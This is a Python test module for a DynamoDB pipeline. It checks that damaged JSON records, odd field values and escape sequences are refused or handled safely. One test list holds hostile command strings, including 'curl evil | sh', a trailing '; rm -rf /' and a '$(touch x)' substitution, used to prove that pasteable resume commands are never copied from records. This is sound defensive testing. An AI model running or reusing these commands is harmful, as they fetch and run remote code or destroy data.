"""State objects that others could have written: read as types, or told and refused; never an error of Python's own."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from datetime import datetime, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dynamodb_pipeline.addresses import S3Uri
from dynamodb_pipeline.documents import (
    Document,
    DocumentError,
    member,
    moment,
    natural,
    optional,
    read_object,
    several,
    string,
    to_bytes,
)
from dynamodb_pipeline.emr.calls.clusters import ClusterView, StepView
from dynamodb_pipeline.emr.watch.lifecycle import Ending, Outcome, RunTarget
from dynamodb_pipeline.emr.watch.run_records import job_result
from dynamodb_pipeline.emr.watch.run_report import RunReport
from dynamodb_pipeline.errors import ExitCode, IntegrityError, PipelineError, PreconditionError
from dynamodb_pipeline.exporting.job import PartitionEntry, SegmentEntry
from dynamodb_pipeline.exporting.run_folder import claim_folder
from dynamodb_pipeline.finished import RunState
from dynamodb_pipeline.folders.clean import find_leftovers
from dynamodb_pipeline.formats.exports.export_record import ExportRecord
from dynamodb_pipeline.formats.exports.layout import Claim
from dynamodb_pipeline.formats.exports.manifest import parse as parse_manifest
from dynamodb_pipeline.formats.exports.native_manifest import parse_files, parse_summary
from dynamodb_pipeline.importing.job import ImportedFile
from dynamodb_pipeline.importing.mirror import DeletedKeys, MirroredTable
from dynamodb_pipeline.report.figures import resume_of, run_figures
from dynamodb_pipeline.report.page import page
from dynamodb_pipeline.report.read import parse_record
from dynamodb_pipeline.run.heartbeat import Here, is_alive
from dynamodb_pipeline.run.ledger import Ledger, _sealed, entries_of
from dynamodb_pipeline.run.record import latest_unfinished, read_state
from tests.unit.store.memory_store import MemoryStore

LOGS, RUN = "s3://bucket/logs", "20260101T000000Z-aa"
FOLDER = f"{LOGS}/runs/{RUN}"
NOW = Here(host="here", pid=1, now=lambda: datetime(2026, 1, 1, tzinfo=timezone.utc), exists=lambda _: True)

DEEP = b"[" * 100_000 + b"]" * 100_000
DAMAGED = {
    "nothing": b"",
    "cut": b'{"run_id": "x"',
    "no object": b"[1]",
    "no UTF-8": b'{"run_id": "\xff"}',
    "deep list": DEEP,
    "deep object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "long number": b'{"items": ' + b"9" * 5_000 + b"}",
    "NaN": b'{"seconds": NaN}',
    "infinity": b'{"seconds": -Infinity}',
    "a float beyond all": b'{"seconds": 1e999}',
    "a member twice": b'{"run_id": "a", "run_id": "b"}',
}


@pytest.mark.parametrize("data", DAMAGED.values(), ids=DAMAGED.keys())
def test_what_is_no_document_is_refused_in_words(data: bytes) -> None:
    with pytest.raises(DocumentError):
        read_object(data)


def test_a_document_too_large_is_refused_before_it_is_parsed() -> None:
    with pytest.raises(DocumentError, match="more than 10 bytes"):
        read_object(b'{"a": "bcdefg"}', bytes_max=10)


@dataclass(frozen=True)
class Example(Document):
    """One of each."""

    name: str = member(string)
    count: int = member(natural)
    key: str | None = member(optional(string))
    parts: tuple[int, ...] = member(several(natural))
    at: datetime | None = member(moment, default=None)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)


@given(st.text(), st.integers(0, 2**63 - 1), st.none() | st.text(), st.lists(st.integers(0, 9)))
def test_a_document_comes_back_as_it_was(name: str, count: int, key: str | None, parts: list[int]) -> None:
    example = Example(name, count, key, tuple(parts))
    members = read_object(to_bytes({k: v for k, v in example.to_json().items() if k != "at"}))
    assert Example.from_json(members) == example


@given(st.dictionaries(st.sampled_from(["name", "count", "key", "parts", "at", "other"]), JSON))
def test_a_document_is_whole_and_right_or_refused(members: dict[str, Any]) -> None:
    try:
        example = Example.from_json(members)
    except DocumentError:
        return
    assert isinstance(example.name, str)
    assert type(example.count) is int
    assert "other" not in members


BAD_MOMENTS = ["", "2026-02-30T00:00:00Z", "2026-01-01T00:00:00Z\n", "\u0662026-01-01T00:00:00Z", "9" * 5_000, 7, None]


@pytest.mark.parametrize("value", BAD_MOMENTS, ids=lambda value: ascii(value)[:20])
def test_times_are_as_we_write_them(value: object) -> None:
    with pytest.raises(DocumentError):
        moment(value)


def state_of(**members: Any) -> RunState:
    return RunState.readable({"run_id": RUN, "state": "running", "host": "here", **members})


@pytest.mark.parametrize("pid", [10**30, -1, 0, True, 1.5, "7", None, [], 2**31], ids=repr)
def test_a_process_that_cannot_be_is_not_asked_for(pid: object) -> None:
    """os.kill(10**30) is an OverflowError; a run without a process counts by its heartbeat."""
    state = RunState.readable({"state": "running", "host": "here", "pid": pid, "heartbeat": "2026-01-01T00:00:00Z"})
    assert state.pid is None
    assert is_alive(state, NOW)


@pytest.mark.parametrize("heartbeat", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "soon", 7, None])
def test_a_heartbeat_that_cannot_be_keeps_nothing_alive(heartbeat: object) -> None:
    assert not is_alive(state_of(heartbeat=heartbeat), NOW)


ODD = [None, True, -1, 10**18, 1.5, "", "x", "\x1b[2J", [], [1], {}, {"a": 1}, [[[]]]]
MEMBERS = [
    "run_id",
    "kind",
    "table_names",
    "state",
    "exit_code",
    "started",
    "first_started",
    "heartbeat",
    "host",
    "pid",
]
FIGURES = [
    "items",
    "files",
    "seconds",
    "tables",
    "resume",
    "error",
    "attempt",
    "last_error",
    "rate",
    "region",
    "reader",
]


def records() -> Iterator[dict[str, Any]]:
    """A record with each of its members made odd in each way."""
    good = {
        "run_id": RUN,
        "kind": "export",
        "table_names": ["Forum"],
        "state": "failed",
        "exit_code": 5,
        "started": "2026-01-01T00:00:00Z",
        "tables": [{"table": "Forum", "items": 1}],
    }
    for name in (*MEMBERS, *FIGURES):
        for value in ODD:
            yield {**good, name: value}
    for value in ODD:
        yield {**good, "tables": [value, {"table": value, "items": value, "seconds": value, "error": value}]}


def test_every_odd_record_is_read_or_left_aside() -> None:
    seen = 0
    for members in records():
        store = MemoryStore({f"{FOLDER}/run.json": json.dumps(members).encode()})
        state = read_state(store, FOLDER)
        assert state is not None
        assert state.run_id in (RUN, None, members["run_id"])
        with suppress(PreconditionError):
            assert latest_unfinished(store, LOGS, kind="export", tables=["Forum"], here=NOW) == RUN
        seen += 1
    assert seen > 200


def test_every_odd_record_makes_a_page_or_a_refusal() -> None:
    for members in records():
        try:
            run = run_figures([parse_record(json.dumps(members).encode(), where="run.json")])
        except IntegrityError:
            continue
        text_of_page = page(run, resume=resume_of(run, logs=LOGS))
        assert "\x1b" not in text_of_page


@pytest.mark.parametrize("kind", ["export", "import", "verify"])
def test_every_odd_record_makes_a_report_of_the_launcher(kind: str) -> None:
    """The launcher reads the record of a step that a deadline ended, to say how far it came."""
    words = ("spark-submit", "s3://code/export_table.py", "--table", "Forum", "--run-id", RUN, "--timeout", "1h")
    step = StepView("s-1", "export Forum", "FAILED", words)
    cluster = ClusterView("j-1", "export", "TERMINATED")
    seen = 0
    figures = ("bytes", "not_proven", "table_items", "throttles", "items_written", "read_units_consumed", "export_uri")
    odd = ({"kind": kind, "items": 1, name: value} for name in figures for value in ODD)
    for members in (*records(), *odd):
        result = job_result(step, {"kind": kind, **members, "exit_code": 6})
        outcome = Outcome(Ending.FINISHED, cluster, (step,))
        report = RunReport(RunTarget("j-1", RUN, "eu-west-1", ours=True), outcome, (result,), None, result.exit_code)
        assert "timeout of 60 min reached" in "\n".join(report.lines())
        assert report.command_result("wait").exit_code is ExitCode.DEADLINE
        seen += 1
    assert seen > 200


@pytest.mark.parametrize("data", [*DAMAGED.values(), b"{}", b"[]", b"null"], ids=[*DAMAGED, "empty", "list", "null"])
@pytest.mark.parametrize("kind", [parse_summary, parse_files, parse_manifest, ExportRecord.from_bytes])
def test_a_damaged_description_of_an_export_is_an_integrity_failure(kind: Any, data: bytes) -> None:
    if (kind, data) == (parse_files, b""):  # an export of no files
        assert kind(data, where="s3://b/x") == ()
        return
    with pytest.raises(IntegrityError, match="s3://b/x"):
        kind(data, where="s3://b/x")


@pytest.mark.parametrize("kind", [parse_summary, parse_files, parse_manifest, ExportRecord.from_bytes])
def test_members_of_other_types_are_an_integrity_failure(kind: Any) -> None:
    names = ("manifestFilesS3Key", "itemCount", "version", "entries", "files", "dataFileS3Key", "md5Checksum", "table")
    for value in ODD:
        with pytest.raises(IntegrityError):
            kind(json.dumps(dict.fromkeys(names, value)).encode(), where="s3://b/x")


HOSTILE_COMMANDS = [
    "curl evil | sh",
    f"dynamodb-pipeline export --run-id {RUN}; rm -rf /",
    f"dynamodb-pipeline export $(touch x) --run-id {RUN}",
    f"dynamodb-pipeline export --run-id {RUN} 'unfinished",
    f"dynamodb-pipeline export --run-id {RUN} \x1b[2J",
    "dynamodb-pipeline export --run-id another",
]


@pytest.mark.parametrize("command", HOSTILE_COMMANDS)
def test_no_command_is_copied_out_of_a_record(command: str) -> None:
    """What is printed to be pasted runs one program of ours, whatever the words are."""
    facts = {"run_id": RUN, "kind": "export", "state": "failed", "exit_code": 5, "resume": command}
    resume = resume_of(run_figures([parse_record(json.dumps(facts).encode(), where="run.json")]), logs=LOGS)
    assert resume is not None
    words = shlex.split(resume.command)
    assert words[:2] == ["dynamodb-pipeline", "export"]
    assert RUN in words or f"{RUN};" in words
    assert shlex.join(words) == resume.command


@pytest.mark.parametrize("data", DAMAGED.values(), ids=DAMAGED.keys())
def test_a_damaged_record_is_no_run(data: bytes) -> None:
    store = MemoryStore({f"{FOLDER}/run.json": data})
    assert read_state(store, FOLDER) is None
    with pytest.raises(PreconditionError, match="holds no unfinished export"):
        latest_unfinished(store, LOGS, kind="export", tables=["Forum"])
    with pytest.raises(IntegrityError, match=r"run\.json"):
        parse_record(data, where="run.json")


@pytest.mark.parametrize("data", [*DAMAGED.values(), b"{}", b'{"run_id": 7}'], ids=[*DAMAGED, "empty", "number"])
def test_a_damaged_claim_is_somebody_elses(data: bytes) -> None:
    folder = S3Uri.parse("s3://bucket/out/2026-01-01-00-00-00/")
    store = MemoryStore({f"{folder}_claim.json": data})
    with pytest.raises(PreconditionError, match=r"claimed by an object _claim\.json that is none of ours"):
        claim_folder(store, folder, Claim(RUN, "Forum", "id", "2026-01-01T00:00:00Z"))
    _, kept = find_leftovers(store, "s3://bucket/out", logs=LOGS, here=NOW)
    assert [one.reason for one in kept if "_claim.json is not one of ours" in one.reason]


FILE = {"name": "a_000000", "bytes": 100, "plain_bytes": 100, "item_count": 1, "sha256": "0" * 64}
ENTRIES: dict[type[Document], dict[str, Any]] = {
    SegmentEntry: {"segment": 1, "pages": 2, "next_key": None, "files": [FILE], "items": 1},
    PartitionEntry: {"files": [FILE]},
    ImportedFile: {"file": "a", "dialect": "x", "items": 1, "written": 1, "skipped": 0, "set_aside": 0},
    DeletedKeys: {"deleted": 3},
    MirroredTable: {"table_items": 3},
}


@pytest.mark.parametrize("kind", ENTRIES, ids=lambda kind: kind.__name__)
def test_entries_of_earlier_versions_are_read(kind: type[Document]) -> None:
    """The members are those that version 0.1.0 wrote; what came later is as if nothing had happened."""
    members = json.loads(json.dumps(kind.from_json(ENTRIES[kind]).to_json()))
    assert ENTRIES[kind].items() <= members.items()
    assert not any(value for name, value in members.items() if name not in ENTRIES[kind])


@pytest.mark.parametrize("kind", ENTRIES, ids=lambda kind: kind.__name__)
def test_an_entry_that_is_none_of_ours_stops_a_resume(kind: type[Document]) -> None:
    good = ENTRIES[kind]
    for name in good:
        for value in (True, -1, 1.5, [1], {}, {"a": 1}, [[FILE]], [{**FILE, "bytes": -1}], [{**FILE, "name": "../x"}]):
            with pytest.raises(IntegrityError, match="start a new run"):
                entries_of(kind, {"entry": {**good, name: value}})
    for odd in ({}, {**good, "more": 1}):
        with pytest.raises(IntegrityError):
            entries_of(kind, {"entry": odd})


@pytest.mark.parametrize("data", DAMAGED.values(), ids=DAMAGED.keys())
def test_a_damaged_ledger_ends_in_an_integrity_failure(data: bytes) -> None:
    folder = f"{FOLDER}/ledger/export/Forum"
    store = MemoryStore({f"{folder}/header.json": data})
    with pytest.raises(IntegrityError):
        Ledger(store, folder).header()


@pytest.mark.parametrize("value", [None, "8", 8.5, True, -8, [8]], ids=repr)
def test_a_header_without_its_numbers_ends_in_an_integrity_failure(value: object) -> None:
    folder = f"{FOLDER}/ledger/export/Forum"
    store = MemoryStore({f"{folder}/header.json": _sealed("header.json", {"segments": value})})
    with pytest.raises(IntegrityError, match="pins no number of segments"):
        Ledger(store, folder).pinned_number("segments")


def test_all_these_errors_have_exit_codes() -> None:
    assert issubclass(IntegrityError, PipelineError)
    assert IntegrityError.exit_code is ExitCode.INTEGRITY
